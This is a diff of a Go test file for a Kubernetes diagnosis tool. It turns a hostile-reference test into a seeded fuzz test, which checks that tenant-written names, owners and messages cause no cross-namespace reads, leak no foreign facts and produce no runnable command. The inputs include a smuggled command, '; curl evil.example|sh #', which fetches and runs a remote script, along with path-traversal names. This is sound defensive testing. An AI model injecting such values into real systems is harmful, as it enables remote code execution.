@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"math/rand/v2"
 	"regexp"
 	"slices"
 	"strings"
@@ -11,12 +12,15 @@ import (
 
 	corev1 "k8s.io/api/core/v1"
 	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/apimachinery/pkg/util/validation"
 	clocktesting "k8s.io/utils/clock/testing"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
+	"github.com/bongsu-io/bongsu/api/v1alpha1"
 	"github.com/bongsu-io/bongsu/pkg/diagnosis"
 )
 
@@ -260,39 +264,100 @@ func TestTheRequestsForANamespaceAreLimited(t *testing.T) {
 	}
 }
 
-// Tenants write references. They make no request for a type that Roots does not follow, and name nothing that an
-// administrator could run.
+// Tenants write references, names, owners and texts. These make no request for another namespace, or for a type that Roots
+// does not follow, and name nothing that an administrator could run. The root of an honest object is found.
 func TestHostileReferencesLeadNowhere(t *testing.T) {
-	for name, kind := range map[string]string{
-		"a command":     "{kind: ClusterSecretStore, name: 'x; curl evil.example|sh #'}",
-		"another type":  "{kind: Evil, name: x}",
-		"a long type":   "{kind: " + strings.Repeat("x", 1<<20) + ", name: x}",
-		"no name":       "{kind: ClusterSecretStore, name: ''}",
-		"an empty type": "{kind: '', name: x}",
-	} {
-		t.Run(name, func(t *testing.T) {
-			const failing = `
+	const (
+		seeds   = 200
+		foreign = "foreign-fact"
+		own     = "own-fact"
+		command = "; curl evil.example|sh #"
+		victims = `
 ---
 apiVersion: external-secrets.io/v1
-kind: ExternalSecret
-metadata: {name: db, namespace: shop, uid: db, ownerReferences: [{apiVersion: v1, kind: Node, name: a, uid: a, controller: true}]}
-spec: {secretStoreRef: %s, target: {name: db}, dataFrom: [{sourceRef: %[1]s}]}
-status: {conditions: [{type: Ready, status: "False", reason: SecretSyncedError, message: denied, lastTransitionTime: "2026-03-01T08:00:00Z"}]}`
-			e := fakeCluster(t, missingSecretPod+fmt.Sprintf(failing, kind))
-			c := e.client.(client.Client)
-			mapper := &countingMapper{RESTMapper: c.RESTMapper()}
-			roots := NewRoots(c, c, c.Scheme(), mapper, clocktesting.NewFakePassiveClock(testNow), ForConditions())
-			p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
-			roots.Complete(t.Context(), p, w, cause)
-			if mapper.others > 0 {
-				t.Errorf("%d look-ups of other types", mapper.others)
+kind: SecretStore
+metadata: {name: vault, namespace: other, uid: ov}
+status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
+---
+apiVersion: external-secrets.io/v1
+kind: ClusterSecretStore
+metadata: {name: vault, uid: cv}
+status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
+---
+apiVersion: cert-manager.io/v1
+kind: Certificate
+metadata: {name: db, namespace: other, uid: oc}
+spec: {secretName: db}
+status: {conditions: [{type: Ready, status: "False", reason: Failed, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
+---
+apiVersion: v1
+kind: Node
+metadata: {name: a, uid: a}
+status: {conditions: [{type: Ready, status: "False", reason: foreign-fact, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
+---
+apiVersion: v1
+kind: Secret
+metadata: {name: db, namespace: other, uid: os, annotations: {fact: foreign-fact}}`
+	)
+	inputs, honest := map[string]bool{}, 0
+	for seed := range uint64(seeds) {
+		r := rand.New(rand.NewPCG(seed, 0))
+		kinds := []string{"SecretStore", "ClusterSecretStore", "ClusterSecretStore", "ClusterSecretStore", "Secret", "Node", "Certificate", "Issuer", "ClusterIssuer", "Evil", "", strings.Repeat("x", 1<<10), "Pod/../../other", "secretstores"}
+		names := []string{"vault", "db", "a", "", "x" + command, "other/vault", "../other/vault", "vault\n" + command, strings.Repeat("v", 300), "Vault", "vault -n other"}
+		groups := []string{"external-secrets.io", "cert-manager.io", "", "evil.example", "external-secrets.io/v1"}
+		ref := func() string {
+			return fmt.Sprintf("{kind: %q, name: %q, namespace: %q, group: %q, apiVersion: %q}", one(r, kinds...), one(r, names...), one(r, "other", "", "kube-system", "shop"), one(r, groups...), one(r, "v1", "external-secrets.io/v1", "a/b/c"))
+		}
+		text := strings.NewReplacer("KIND", one(r, kinds...), "NAME", one(r, names...)).Replace(one(r,
+			own+" denied", "KIND NAME is not ready: "+own, own+`: could not get SecretStore "NAME", namespace "other"`, "Issuer other/NAME: "+own, own+": Secret other/db not found", own+` of KIND/NAME; run bongsu explain`+command))
+		reason := one(r, "SecretSyncedError", "x"+command, "Failed")
+		owner := fmt.Sprintf("{apiVersion: %q, kind: %q, name: %q, uid: %s, controller: true}", one(r, "v1", "external-secrets.io/v1", "bongsu.io/v1alpha1"), one(r, "Node", "SecretStore", "Jupyter", "Evil"), one(r, "a", "vault", "other/vault"), one(r, "a", "ov", "cv"))
+		maker := map[string]string{
+			"ExternalSecret": "apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nSPEC: {secretStoreRef: REF, target: {name: db}, data: [{secretKey: a, sourceRef: {storeRef: REF}}], dataFrom: [{sourceRef: {generatorRef: REF, storeRef: REF}}]}",
+			"Certificate":    "apiVersion: cert-manager.io/v1\nkind: Certificate\nSPEC: {secretName: db, issuerRef: REF, keystores: {jks: {passwordSecretRef: REF}}}",
+			"SealedSecret":   "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nSPEC: {template: {metadata: {name: db, namespace: other}}, secretStoreRef: REF}",
+		}[one(r, "ExternalSecret", "ExternalSecret", "Certificate", "SealedSecret")]
+		for strings.Contains(maker, "REF") {
+			maker = strings.Replace(maker, "REF", ref(), 1)
+		}
+		// It has the name of the Secret, so that this also works without a target.
+		objects := missingSecretPod + victims + "\n---\n" + strings.Replace(maker, "SPEC", fmt.Sprintf(`metadata: {name: db, namespace: shop, uid: db, labels: {app: vault, namespace: other}, annotations: {"kubernetes.io/service-account.name": %q}, ownerReferences: [%s]}
+status: {conditions: [{type: Ready, status: "False", reason: %q, message: %q, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
+spec`, one(r, names...), owner, reason, text), 1)
+		inputs[objects] = true
+		e := fakeCluster(t, objects)
+		c := e.client.(client.Client)
+		mapper := &countingMapper{RESTMapper: c.RESTMapper()}
+		live := &confinedReader{Client: c, t: t, namespace: "shop"}
+		roots := NewRoots(live, c, c.Scheme(), mapper, clocktesting.NewFakePassiveClock(testNow), ForConditions()).WithTrimmedPods()
+		p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
+		local := cause.Sentence()
+		meta := metav1.ObjectMeta{Name: "web", Namespace: "shop", UID: "t"}
+		target := one[client.Object](r, p, &v1alpha1.Jupyter{ObjectMeta: meta}, &v1alpha1.AppService{ObjectMeta: meta}) // whose condition gets it
+		roots.Complete(t.Context(), target, w, cause)
+		got := cause.Sentence()
+		if mapper.others > 0 || strings.Contains(got, foreign) {
+			t.Errorf("%d look-ups of other types", mapper.others)
+		}
+		for _, name := range names {
+			if strings.Contains(got, "bongsu explain clustersecretstore/"+name) && name != "" && len(validation.IsDNS1123Subdomain(name)) > 0 {
+				t.Errorf("it names a command with %q", name)
 			}
-			if got := cause.Sentence(); !strings.HasSuffix(got, "condition Ready is False: denied") {
-				t.Error(got)
-			}
-		})
+		}
+		if strings.Contains(got, own) && got != local {
+			honest++
+		}
+		if t.Failed() {
+			t.Fatalf("seed %d: %s\n%s", seed, got, objects)
+		}
+	}
+	if len(inputs) < seeds || honest < seeds/2 {
+		t.Errorf("%d inputs differ, and %d tenants got the facts of their own objects", len(inputs), honest)
 	}
 }
+
+// one returns a random element.
+func one[T any](r *rand.Rand, all ...T) T { return all[r.IntN(len(all))] }
 
 // A request that fails is no answer: the cause stays as it is, and the next one tries again.
 func TestAFailedReadIsNotRemembered(t *testing.T) {
